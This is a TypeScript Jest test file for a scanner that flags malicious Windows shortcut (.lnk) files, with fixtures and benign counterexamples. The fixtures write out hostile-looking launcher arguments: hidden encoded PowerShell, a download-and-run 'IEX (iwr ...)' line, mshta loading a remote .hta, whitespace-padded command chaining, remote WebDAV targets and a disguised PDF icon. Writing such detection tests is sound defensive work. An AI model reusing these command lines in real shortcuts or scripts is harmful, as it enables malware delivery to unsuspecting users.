import { expect, test } from '@jest/globals';
import fc from 'fast-check';
import { scriptsStage } from '../../../../../src/kinds/scan/stages/scripts/stage.ts';
import { fileOf } from '../file-of.ts';
import { look } from './ids-of.ts';
import { shortcutOf } from './shortcut-of.ts';

const powershell = '..\\..\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
const cmd = 'C:\\Windows\\System32\\cmd.exe';
const encoded = Buffer.from('Write-Output doubletake', 'utf16le').toString('base64');

test.each<[id: string, parts: Parameters<typeof shortcutOf>[0]]>([
  ['scripts.lnk-encoded-command', { relativePath: powershell, arguments: `-NoP -W Hidden -Enc ${encoded}` }],
  ['scripts.lnk-encoded-command', { relativePath: powershell, arguments: `-ec ${encoded}`, wide: false }],
  [
    'scripts.lnk-encoded-command',
    { items: ['C:', 'Windows', 'System32', 'powershell.exe'], arguments: `-e ${encoded}` },
  ],
  [
    'scripts.lnk-encoded-command',
    { environmentPath: '%ComSpec%\\..\\cmd.exe', arguments: `/c power^shell -enc ${encoded}` },
  ],
  ['scripts.lnk-download', { relativePath: powershell, arguments: "IEX (iwr 'http://a.invalid/')" }],
  ['scripts.lnk-command', { relativePath: powershell, arguments: '-w 1 -c "gc a.lnk"' }],
  ['scripts.lnk-command', { relativePath: cmd, arguments: '/c start __MACOSX\\a.exe & start invoice.pdf' }],
  ['scripts.lnk-command', { relativePath: cmd, arguments: '/c wscript %temp%\\a.js' }],
  [
    'scripts.lnk-command',
    { relativePath: 'C:\\Windows\\System32\\mshta.exe', arguments: 'http://a.invalid/a.hta' },
  ],
  ['scripts.lnk-command', { relativePath: 'C:\\Windows\\System32\\wscript.exe', arguments: 'docs\\a.js' }],
  [
    'scripts.lnk-command',
    { relativePath: 'C:\\Windows\\System32\\rundll32.exe', arguments: 'documents.log,Start' },
  ],
  ['scripts.lnk-padded', { relativePath: cmd, arguments: `/c notepad${' '.repeat(300)}& calc` }],
  ['scripts.lnk-remote-program', { environmentPath: '\\\\files.example.invalid@80\\DavWWWRoot\\a.exe' }],
  ['scripts.lnk-remote-icon', { relativePath: 'C:\\a.txt', icon: '\\\\198.51.100.1\\x\\a.ico' }],
  [
    'scripts.lnk-document-icon',
    { relativePath: cmd, arguments: '/c %temp%\\a.exe', icon: 'C:\\Program Files\\Adobe\\AcroRd32.exe' },
  ],
  ['scripts.lnk-appended', { relativePath: 'C:\\a.txt', behind: Buffer.from(`MZ${'x'.repeat(600)}`) }],
])('%s: %j', async (id, parts) => {
  const found = await look('a.lnk', shortcutOf(parts));
  expect(found.type).toBe('lnk');
  expect(found.ids).toContain(id);
  expect(found.score).toBeGreaterThanOrEqual(300);
});

test.each<Parameters<typeof shortcutOf>[0]>([
  {
    relativePath: '..\\Windows\\notepad.exe',
    arguments: 'readme.txt',
    icon: '%SystemRoot%\\System32\\shell32.dll',
    showCommand: 7,
  },
  { relativePath: powershell },
  { relativePath: cmd, arguments: '/k "C:\\Program Files\\nodejs\\nodevars.bat"' },
  { relativePath: 'C:\\Windows\\System32\\rundll32.exe', arguments: 'shell32.dll,Control_RunDLL desk.cpl' },
  { relativePath: 'C:\\Windows\\hh.exe', arguments: 'C:\\Program Files\\Example\\help.chm' },
  { relativePath: 'C:\\Windows\\explorer.exe', arguments: 'shell:AppsFolder\\Example' },
  { environmentPath: '\\\\fileserver\\team\\plan.xlsx', icon: '\\\\fileserver\\icons\\a.ico' },
])('clean: %j', async (parts) => {
  expect((await look('a.lnk', shortcutOf(parts))).ids).toEqual([]);
});

test('target and arguments are facts', async () => {
  const { facts } = await look(
    'a.lnk',
    shortcutOf({ items: ['C:', 'Tools', 'Long name.exe'], arguments: 'a b', icon: 'x.ico' }),
  );
  expect(facts).toMatchObject({ target: 'C:\\Tools\\Long name.exe', arguments: 'a b', icon: 'x.ico' });
});

test('a shortcut that is cut off or overwritten anywhere is read as far as it goes', async () => {
  const whole = shortcutOf({ items: ['C:', 'Windows', 'cmd.exe'], arguments: '/c a', environmentPath: cmd });
  await fc.assert(
    fc.asyncProperty(
      fc.nat(whole.length),
      fc.nat(whole.length - 5),
      fc.uint8Array({ minLength: 4, maxLength: 4 }),
      async (end, at, noise) => {
        const damaged = Buffer.from(whole);
        damaged.set(noise, Math.max(20, at));
        await look('a.lnk', damaged.subarray(0, Math.max(20, end)));
      },
    ),
  );
});

test('a shortcut that is cut off is incomplete, wherever that is', async () => {
  const whole = shortcutOf({ items: ['C:', 'Windows', 'cmd.exe'], arguments: '/c a', environmentPath: cmd });
  const incomplete = async (bytes: Buffer) =>
    (await scriptsStage.look(await fileOf('a.lnk', bytes))).incomplete;
  expect(await incomplete(whole)).toBeUndefined();
  for (let end = 20; end < whole.length; end += 7)
    expect([end, await incomplete(whole.subarray(0, end))]).toEqual([end, [expect.any(String)]]);
});
